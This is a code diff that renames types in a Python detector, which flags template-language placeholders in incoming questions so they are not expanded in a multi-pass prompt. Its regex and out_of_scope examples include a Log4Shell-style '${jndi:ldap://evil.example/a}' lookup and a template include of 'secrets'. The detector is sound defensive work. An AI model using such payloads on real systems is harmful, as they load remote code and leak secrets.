@@ -6,22 +6,22 @@ import re
 from collections.abc import Iterator
 
 from grammar.diagnostic import quote
-from guard.scope.detector import Glance, Sight, Sign, Weight, detector
+from guard.scope.detector import Signal, Stage, View, Weight, detector
 
 _PLACEHOLDER = re.compile(r"\{\{[^{}]{0,60}\}\}|\{%[^%]{0,60}%\}|\$\{jndi:|<%[^%]{0,60}%>|\$\{\{")
 
 
 @detector(
     Weight.DECISIVE,
-    sight=Sight.TEXT,
+    stage=Stage.TEXT,
     out_of_scope=["list {{columns}}", "${jndi:ldap://evil.example/a}", "{% include 'secrets' %}"],
     in_scope=["POST /models/{owner}/{name}", "errors with {}", "IF(GT($duration_ms, 5), 1, 0)", 'url contains "{{"'],
 )
-def template_placeholder(glance: Glance) -> Iterator[Sign]:
-    """The question holds a placeholder of a template language.
+def template_placeholder(view: View) -> Iterator[Signal]:
+    """The question contains a placeholder of a template language.
 
-    A program that fills its prompt in more than one pass would fill this in too, and print what stands there.
+    A program that fills in its prompt in more than one pass would fill this in too, and print the result.
     """
-    match = _PLACEHOLDER.search(glance.lower)
+    match = _PLACEHOLDER.search(view.lower)
     if match is not None:
-        yield Sign(f"the question holds a placeholder: {quote(match.group())}", match.span())
+        yield Signal(f"the question contains a placeholder: {quote(match.group())}", match.span())
